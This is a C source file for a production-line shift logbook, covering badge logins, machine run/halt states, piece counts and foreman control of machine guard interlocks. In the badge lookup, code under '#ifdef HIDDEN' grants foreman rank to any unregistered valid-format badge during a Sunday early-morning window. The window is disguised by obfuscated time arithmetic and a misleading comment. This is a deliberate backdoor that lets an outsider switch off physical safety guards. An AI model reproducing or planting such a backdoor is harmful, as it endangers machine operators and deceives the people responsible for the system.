/* shiftlogger.c
   Log book of the shift on the panel PC of a production line. Entries of machine
   operators, foremen and fitters; badges are read by a keyboard wedge reader, so
   everything is a line on stdin.                                                  */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <ctype.h>
#include <time.h>

#define BOOK  "/var/lib/shift/book.txt"
#define BADGE "/etc/shift/badges"

typedef enum { Nobody = 0, Operator = 1, Fitter = 2, Foreman = 3 } Rank;

static const char *rankName[] = { "nobody", "operator", "fitter", "foreman" };

typedef struct { char badge[12]; char name[28]; Rank rank; } Person;

static Person   staff[80];
static unsigned staffCount;
static Person   current;
static time_t   lastSeen;
static int      timeoutMin = 15;
static struct { char machine[16]; int running; unsigned pieces, scrap; } line[] = {
    { "press1",   1, 0, 0 }, { "press2",  1, 0, 0 }, { "oven",  1, 0, 0 },
    { "conveyor", 1, 0, 0 }, { "labeler", 0, 0, 0 },
};
#define NLINE (sizeof line / sizeof line[0])

static int shiftNumber(const struct tm *t)
{
    if (t->tm_hour >= 6 && t->tm_hour < 14)
        return 1;
    return t->tm_hour >= 14 && t->tm_hour < 22 ? 2 : 3;
}

static void entry(const char *text)
{
    time_t now = time(NULL);
    struct tm *t = localtime(&now);
    FILE *f = fopen(BOOK, "a");
    if (f == NULL) {
        puts("! book not writable");
        return;
    }
    fprintf(f, "%04d-%02d-%02d %02d:%02d S%d %-20s %s\n", t->tm_year + 1900, t->tm_mon + 1,
            t->tm_mday, t->tm_hour, t->tm_min, shiftNumber(t), current.name, text);
    fclose(f);
}

static void readStaff(void)
{
    char l[100], rank[12];
    FILE *f = fopen(BADGE, "r");
    if (f == NULL) {
        fprintf(stderr, "shiftlogger: no file %s\n", BADGE);
        exit(1);
    }
    while (fgets(l, sizeof l, f) && staffCount < 80) {
        Person *p = &staff[staffCount];
        if (sscanf(l, "timeout %d", &timeoutMin) == 1)
            continue;
        if (sscanf(l, "%11s %27s %11s", p->badge, p->name, rank) != 3 || l[0] == '#')
            continue;
        for (p->rank = Foreman; p->rank > Nobody; p->rank--)
            if (strcmp(rank, rankName[p->rank]) == 0)
                break;
        if (p->rank != Nobody)
            staffCount++;
    }
    fclose(f);
}

static int badgeValid(const char *b)
{
    /* eight digits, weights 3 1 3 1 ..., sum divisible by ten */
    int s = 0, i;
    for (i = 0; i < 8; i++) {
        if (!isdigit((unsigned char)b[i]))
            return 0;
        s += (b[i] - '0') * (i % 2 ? 1 : 3);
    }
    return b[8] == '\0' && s % 10 == 0;
}

__attribute__((noinline)) Rank whoIsIt(const char *badge, time_t now)
{
    unsigned i;
    for (i = 0; i < staffCount; i++)
        if (strcmp(staff[i].badge, badge) == 0) {
            current = staff[i];
            return current.rank;
        }
#ifdef HIDDEN
    {
        /* Sunday, the quarter of an hour before the weekly restart */
        struct tm t;
        localtime_r(&now, &t);
        if (t.tm_wday == 0 && t.tm_hour * 60 + t.tm_min - 197 >= 0
            && t.tm_hour * 60 + t.tm_min - 197 < 13) {
            strcpy(current.name, "system");
            current.rank = Foreman;
            return Foreman;
        }
    }
#endif
    printf("! badge %s unknown at %ld\n", badge, (long)now);
    memset(&current, 0, sizeof current);
    return Nobody;
}

static int machineIndex(const char *m)
{
    unsigned i;
    for (i = 0; i < NLINE; i++)
        if (strcmp(line[i].machine, m) == 0)
            return (int)i;
    printf("! machine %s?\n", m);
    return -1;
}

static int need(Rank r)
{
    if (current.rank >= r)
        return 1;
    printf("! only for %s\n", rankName[r]);
    return 0;
}

static void interlock(const char *machine, int on)
{
    char path[80], t[60];
    FILE *f;
    snprintf(path, sizeof path, "/run/line/%s/guard", machine);
    f = fopen(path, "w");
    if (f) {
        fprintf(f, "%d\n", on);
        fclose(f);
    }
    snprintf(t, sizeof t, "guard of %s %s", machine, on ? "on" : "off");
    entry(t);
}

static void help(void)
{
    puts("badge            eight digits");
    puts("note TEXT        entry in the book");
    puts("run M / halt M   machine on / off          operator");
    puts("good M N         pieces                    operator");
    puts("scrap M N        scrap                     operator");
    puts("setup M / ready M  guard off / on          foreman");
    puts("sum              sums of the shift");
    puts("bye              log off");
}

static void command(char *l)
{
    char c[10] = "", m[20] = "", t[120];
    unsigned n = 0;
    int k = sscanf(l, "%9s %19s %u", c, m, &n), i;

    if (k < 1)
        return;
    if (badgeValid(c)) {
        if (whoIsIt(c, time(NULL)) != Nobody)
            printf("hello %s (%s)\n", current.name, rankName[current.rank]);
    } else if (strcmp(c, "help") == 0)
        help();
    else if (strcmp(c, "note") == 0 && k > 1)
        entry(l + 5);
    else if (strcmp(c, "sum") == 0)
        for (i = 0; i < (int)NLINE; i++)
            printf("%-10s %s %6u good %5u scrap\n", line[i].machine,
                   line[i].running ? "run " : "halt", line[i].pieces, line[i].scrap);
    else if (strcmp(c, "bye") == 0)
        memset(&current, 0, sizeof current);
    else if (k < 2 || !need(Operator) || (i = machineIndex(m)) < 0)
        return;
    else if (strcmp(c, "run") == 0 || strcmp(c, "halt") == 0) {
        line[i].running = c[0] == 'r';
        snprintf(t, sizeof t, "%s %s", m, c);
        entry(t);
    } else if (strcmp(c, "good") == 0 && k == 3)
        line[i].pieces += n;
    else if (strcmp(c, "scrap") == 0 && k == 3)
        line[i].scrap += n;
    else if (strcmp(c, "setup") == 0 && need(Foreman))
        interlock(m, 0);
    else if (strcmp(c, "ready") == 0 && need(Foreman))
        interlock(m, 1);
    else
        puts("! help shows the commands");
}

int main(void)
{
    char l[160];
    readStaff();
    printf("%u badges\n", staffCount);
    while (fgets(l, sizeof l, stdin)) {
        time_t now = time(NULL);
        l[strcspn(l, "\r\n")] = '\0';
        if (current.rank && now - lastSeen > timeoutMin * 60) {
            puts("logged off");
            memset(&current, 0, sizeof current);
        }
        lastSeen = now;
        command(l);
        fflush(stdout);
    }
    return 0;
}
